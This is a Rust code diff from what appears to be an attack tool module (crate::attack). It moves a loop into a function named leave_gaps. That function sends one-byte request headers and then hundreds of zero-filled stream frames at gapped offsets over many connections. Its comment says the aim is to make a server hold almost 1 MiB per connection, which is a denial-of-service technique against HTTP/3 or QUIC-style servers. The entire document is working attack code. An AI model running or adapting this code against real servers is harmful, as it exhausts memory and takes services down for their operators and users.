@@ -188,20 +188,26 @@ fn sum(scene: &mut Scene<'_>) -> Result<(), String> {
             }
             continue;
         };
-        let head = frame(HEADERS, &section(&fields("POST", SMALL)));
-        for stream in (0..4).map(|number| number * 4) {
-            endpoint.send(&stream_frame(stream, 0, &head[..1], false));
-            for place in 0..220 {
-                endpoint.send(&stream_frame(stream, 1_000 + place * 1_100, &[0; 1_100], false));
-                if place % 32 == 0 {
-                    endpoint.pump(Duration::from_millis(1))?;
-                }
-            }
-        }
+        leave_gaps(&mut endpoint)?;
         all.push(endpoint);
         check_interrupt()?;
     }
     scene.notes.push(format!("{} connections, {refused} refused", all.len()));
+    Ok(())
+}
+
+/// Makes the server keep almost 1 MiB: four requests whose beginning is missing.
+pub(in crate::attack) fn leave_gaps(endpoint: &mut Endpoint) -> Result<(), String> {
+    let head = frame(HEADERS, &section(&fields("POST", SMALL)));
+    for stream in (0..4).map(|number| number * 4) {
+        endpoint.send(&stream_frame(stream, 0, &head[..1], false));
+        for place in 0..220 {
+            endpoint.send(&stream_frame(stream, 1_000 + place * 1_100, &[0; 1_100], false));
+            if place % 32 == 0 {
+                endpoint.pump(Duration::from_millis(1))?;
+            }
+        }
+    }
     Ok(())
 }
 
